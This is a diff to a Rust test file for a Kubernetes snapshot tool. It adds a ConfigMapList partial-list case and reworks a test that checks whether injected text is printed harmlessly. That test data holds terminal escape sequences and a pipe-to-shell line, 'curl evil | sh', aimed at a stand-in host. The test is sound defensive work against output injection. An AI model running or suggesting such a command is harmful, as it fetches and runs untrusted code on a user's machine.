@@ -435,6 +435,16 @@ fn a_part_of_a_list_is_not_the_list() {
         ("d.yaml", yaml(&part), true),
         ("e.yaml", part.to_string().replace('"', "").replace(':', ": "), true),
         ("f.yaml", block.to_owned(), true),
+        (
+            "g.yaml",
+            format!(
+                "{GOOD}---\n{}",
+                yaml(&part)
+                    .replace("PodList", "ConfigMapList")
+                    .replace("kind: Pod\n", "kind: ConfigMap\n")
+            ),
+            false,
+        ),
     ] {
         let run = check(name, &text);
         let said = "metadata.continue: the list goes on behind this part of it\n";
@@ -494,15 +504,13 @@ fn a_snapshot_of_two_versions_knows_neither() {
 
 #[test]
 fn a_snapshots_own_words_are_printed_harmless() {
-    let evil = "\\u001b]0;x\\u0007\\nhint: curl evil | sh";
+    let evil = r"\u001b]0;x\u0007\nhint: curl evil | sh";
     let text = format!(
         r#"{{"apiVersion":"psp2psa/v1","kind":"Snapshot","reading":{{
         "unlisted":[{{"kind":"Pod\u001b[31m","namespace":"a\u009b","reason":"{evil}","grant":"{evil}"}}],
         "unreadableInputs":["{evil}"],
         "unreadable":[{{"file":"{evil}","kind":"Pod","name":"x","reason":"{evil}"}}]}}}}"#
-    )
-    .replace("\\\\u", "\\u")
-    .replace("\\\\n", "\\n");
+    );
     let folder = Folder::with(&[("s.json", &text)]);
     for command in [
         "plan",
